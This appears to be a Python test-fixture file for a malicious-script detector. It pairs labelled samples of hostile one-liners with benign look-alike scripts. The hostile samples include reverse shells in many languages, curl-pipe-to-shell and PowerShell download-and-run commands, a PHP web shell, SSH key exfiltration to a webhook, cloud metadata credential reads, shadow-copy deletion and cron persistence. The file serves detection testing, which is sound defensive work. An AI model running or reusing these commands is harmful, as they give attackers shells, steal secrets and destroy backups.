"""What our patterns fit, and its honest neighbours. Inert: nobody runs a line, addresses are RFC 5737's."""

FITS: dict[str, list[str]] = {
    "shell_over_dev_tcp": [
        "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.10/443 0>&1\n",
        "#!/bin/sh\nexec 5<>/dev/tcp/192.0.2.10/443; cat <&5 | while read line; do $line 2>&5 >&5; done\n",
    ],
    "shell_over_named_pipe": [
        "#!/bin/sh\nrm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.10 443 >/tmp/f\n",
        "#!/bin/sh\nmkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.10:443 > /tmp/s\n",
    ],
    "shell_over_socket_perl": [
        '#!/usr/bin/perl\nuse Socket;$i="192.0.2.10";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        'if(connect(S,sockaddr_in(443,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");};\n',
        "#!/usr/bin/perl -MIO\n$c=new IO::Socket::INET(PeerAddr,'192.0.2.10:443');STDIN->fdopen($c,r);"
        "$~->fdopen($c,w);system$_ while<>;\n",
    ],
    "shell_over_socket_ruby": [
        '#!/usr/bin/ruby -rsocket\nc=TCPSocket.new("192.0.2.10","443");while(cmd=c.gets);'
        'IO.popen(cmd,"r"){|io|c.print io.read}end\n',
        '#!/usr/bin/ruby\nf=TCPSocket.open("192.0.2.10",443).to_i;exec sprintf("/bin/sh -i <&%d >&%d",f,f)\n',
    ],
    "shell_over_socket_php": [
        '#!/usr/bin/php\n<?php $sock=fsockopen("192.0.2.10",443);exec("/bin/sh -i <&3 >&3 2>&3"); ?>\n',
        "#!/usr/bin/php\n<?php $s=stream_socket_client('tcp://192.0.2.10:443');$p=proc_open('sh -i',[0=>$s,1=>$s],$x);\n",
    ],
    "shell_over_socket_javascript": [
        '#!/usr/bin/env node\nvar net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);'
        'var c=new net.Socket();c.connect(443,"192.0.2.10",()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);});\n',
    ],
    "shell_over_socket_lua": [
        "#!/usr/bin/lua\nlocal s=require('socket');local t=s.tcp();t:connect('192.0.2.10',443);"
        "while true do local r=t:receive();local f=io.popen(r,'r');t:send(f:read('*a')) end\n",
        "#!/usr/bin/lua\nrequire('socket');require('os');t=socket.tcp();t:connect('192.0.2.10','443');"
        "os.execute('/bin/sh -i <&3 >&3 2>&3');\n",
    ],
    "shell_over_socket_awk": [
        '#!/usr/bin/gawk -f\nBEGIN{s="/inet/tcp/0/192.0.2.10/443";while(1){s|&getline c;while((c|&getline)>0)print|&s}}\n',
    ],
    "shell_over_socket_powershell": [
        '#!/usr/bin/pwsh\n$c=New-Object System.Net.Sockets.TCPClient("192.0.2.10",443);$s=$c.GetStream();'
        "$d=$s.Read($b,0,9);$r=(iex $d 2>&1|Out-String)\n",
    ],
    "shell_over_socket_java": [
        '#!/usr/bin/groovy\nProcess p=new ProcessBuilder("sh").redirectErrorStream(true).start();'
        'Socket s=new Socket("192.0.2.10",443);OutputStream po=p.getOutputStream();\n',
    ],
    "shell_over_socket_python": [
        "#!/usr/bin/python2\nimport socket,os,pty\nprint 'x'\ns=socket.socket()\ns.connect(('192.0.2.10',443))\n"
        "[os.dup2(s.fileno(),f)for f in(0,1,2)]\npty.spawn('sh')\n",
    ],
    "fetched_code_is_run": [
        "#!/bin/sh\ncurl -fsSL https://files.example/x | sh\n",
        '#!/bin/sh\nsh -c "$(wget -qO- http://192.0.2.10/i)"\n',
    ],
    "powershell_fetches_and_runs": [
        "#!/usr/bin/pwsh\niex (New-Object Net.WebClient).DownloadString('http://192.0.2.10/a.ps1')\n",
        "#!/usr/bin/pwsh\n$p = \"$env:TEMP\\a.exe\"\nInvoke-WebRequest http://192.0.2.10/a.exe -OutFile $p\nStart-Process $p\n",
    ],
    "powershell_hidden_and_encoded": [
        "#!/bin/sh\npowershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA\n",
    ],
    "script_host_decodes_and_runs": [
        "#!/usr/bin/env node\neval(atob('cmVxdWlyZQ=='))\n",
        "#!/usr/bin/php\n<?php eval(base64_decode('ZWNobw==')); ?>\n",
        "#!/usr/bin/perl\neval(pack('H*', '7072696e74'));\n",
        "#!/usr/bin/Rscript\neval(parse(text = rawToChar(x)))\n",
    ],
    "web_shell": ["#!/usr/bin/php\n<?php @system($_GET['c']); ?>\n"],
    "python_stages": [f"#!/usr/bin/python2\nprint 'x'\nimport base64\nexec(base64.b64decode('{'QUJD' * 60}'))\n"],
    "packed_python": [
        "#!/usr/bin/python\nfrom pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY')\n",
        "#!/usr/bin/python2\nprint 'x'\n_ = lambda __ : __import__('zlib').decompress(__[::-1])\n",
    ],
    "machine_code_is_run_from_memory": [
        "#!/usr/bin/pwsh\n$a=[K]::VirtualAlloc(0,99,0x3000,0x40);[M]::RtlMoveMemory($a,$c,99);[K]::CreateThread(0,0,$a,0,0,0)\n",
    ],
    "browser_secrets": [
        "#!/usr/bin/pwsh\ncopy \"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data\" $t; $k = $state.os_crypt.encrypted_key\n",
    ],
    "tokens_to_a_chat_hook": [
        "#!/bin/sh\ncurl -F f=@$HOME/.ssh/id_rsa https://discord.com/api/webhooks/000000000000/xxxx\n",
    ],
    "instance_credentials": [
        "#!/bin/sh\ncurl http://169.254.169.254/latest/meta-data/iam/security-credentials/\n",
        "#!/bin/sh\ncurl -H 'Metadata-Flavor: Google' "
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token\n",
    ],
    "coin_miner": ["#!/bin/sh\n./xmrig -o stratum+tcp://pool.example:3333 --donate-level 1\n"],
    "ransom_note": [
        "#!/bin/sh\nopenssl enc -aes-256-cbc -in f -out f.x\necho 'All your files have been encrypted. Send 1 bitcoin'\n",
    ],
    "defences_are_switched_off": [
        "#!/usr/bin/pwsh\nSet-MpPreference -DisableRealtimeMonitoring $true\n",
        "#!/bin/sh\nvssadmin delete shadows /all /quiet\n",
        "#!/bin/sh\nunset HISTFILE\n",
    ],
    "stays_on_the_machine": [
        "#!/bin/sh\n(crontab -l; echo '@reboot /tmp/.x') | crontab -\n",
        "#!/bin/sh\nschtasks /create /sc onlogon /tn up /tr %appdata%\\up.exe\n",
        "#!/bin/sh\necho /tmp/x.so > /etc/ld.so.preload\n",
    ],
}  # fmt: skip

HONEST: dict[str, str] = {
    "port check": "#!/bin/bash\nif (exec 3<>/dev/tcp/db.example/5432) 2>/dev/null; then echo up; fi\n",
    "login shell": "#!/bin/bash\nexec bash -il\n",
    "named pipe": "#!/bin/sh\nmkfifo log; cat log | tee all.txt &\nmake > log\n",
    "download": "#!/bin/sh\nset -e\ncurl -L https://data.example/a.tar.gz | tar xz\nwget -c https://data.example/b.zip\n",
    "pip": "#!/bin/sh\npython -m pip install -r requirements.txt\nsh ./prepare.sh\n",
    "perl client": "#!/usr/bin/perl\nuse IO::Socket::INET;\nmy $s = IO::Socket::INET->new('stats.example:80');\nprint $s \"GET /\\n\";\n",
    "node server": "#!/usr/bin/env node\nconst net = require('net');\nnet.createServer(c => c.pipe(c)).listen(7);\n",
    "node build": "#!/usr/bin/env node\nconst { spawn } = require('child_process');\nspawn('make').stdout.pipe(process.stdout);\n",
    "ruby client": "#!/usr/bin/ruby\nrequire 'socket'\nputs TCPSocket.new('stats.example', 80).gets\n",
    "php client": "#!/usr/bin/php\n<?php $f = fsockopen('mail.example', 25); fgets($f); exec('date'); ?>\n",
    "awk": "#!/usr/bin/gawk -f\n{ \"date\" | getline d; print d, $1 }\n",
    "python server": "#!/usr/bin/python2\nimport socket\nprint 'x'\ns = socket.socket()\ns.connect(('a.example', 1))\ns.send('sh')\n",
    "python decode": f"#!/usr/bin/python2\nimport base64\nprint 'x'\nICON = '{'QUJD' * 60}'\nopen('i.png', 'wb').write(base64.b64decode(ICON))\n",
    "powershell build": "#!/usr/bin/pwsh\nInvoke-WebRequest https://data.example/a.zip -OutFile a.zip\nExpand-Archive a.zip\n",
    "powershell encoding": "#!/usr/bin/pwsh\npowershell -NoProfile -Encoding utf8 -File build.ps1\n",
    "crontab listing": "#!/bin/sh\ncrontab -l\n",
    "cron in documentation": "#!/bin/sh\n# run me from /etc/cron.daily\nmake update\n",
    "cookies": "#!/bin/sh\ncurl -b cookies.txt https://data.example/gated\n",
    "ransomware data set": "#!/usr/bin/python2\nprint 'labels'\nLABELS = ['ransomware: files are encrypted', 'bitcoin']\n",
    "chat notice": "#!/bin/sh\ncurl -d text=done https://discord.com/api/webhooks/000000000000/xxxx\n",
    "region": "#!/bin/sh\ncurl http://169.254.169.254/latest/meta-data/placement/region\n",
    "history": "#!/bin/bash\nHISTFILE=~/.project_history\n",
    "registry": "#!/usr/bin/pwsh\nGet-ItemProperty 'HKLM:\\Software\\Microsoft\\Windows NT\\CurrentVersion'\n",
}  # fmt: skip
